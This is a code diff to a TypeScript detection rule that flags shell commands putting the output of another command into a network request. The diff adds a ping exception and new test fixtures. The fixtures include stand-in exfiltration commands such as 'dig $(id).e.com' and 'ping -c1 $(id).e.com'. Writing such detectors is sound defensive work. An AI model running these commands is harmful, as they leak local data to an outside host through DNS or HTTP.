@@ -77,13 +77,16 @@ export const NETWORK: readonly Rule[] = [
     when: ({ args, program }) =>
       args.find(
         (a) =>
-          a.substitution && !/^\$\((date|uname|hostname|pwd)\b[^|;&]*\)$/.test(a.text) && program !== 'ping',
+          a.substitution &&
+          !/^\$\((date|uname|hostname|pwd)\b[^|;&]*\)$/.test(a.text) &&
+          // A whole word may well be the name of this machine; with letters at its side it is a message.
+          (program !== 'ping' || !/^\$\([^()]*\)$/.test(a.text)),
       ),
     dimension: 'network',
     points: 6,
     message: 'puts the output of another command into a request',
-    matches: ['curl "http://e.com/$(cat a)"', 'dig $(id).e.com'],
-    not_matches: ['curl http://e.com', 'echo $(curl http://e.com)'],
+    matches: ['curl "http://e.com/$(cat a)"', 'dig $(id).e.com', 'ping -c1 $(id).e.com'],
+    not_matches: ['curl http://e.com', 'echo $(curl http://e.com)', 'ping $(hostname)'],
   },
   {
     id: 'ignores-certificates',
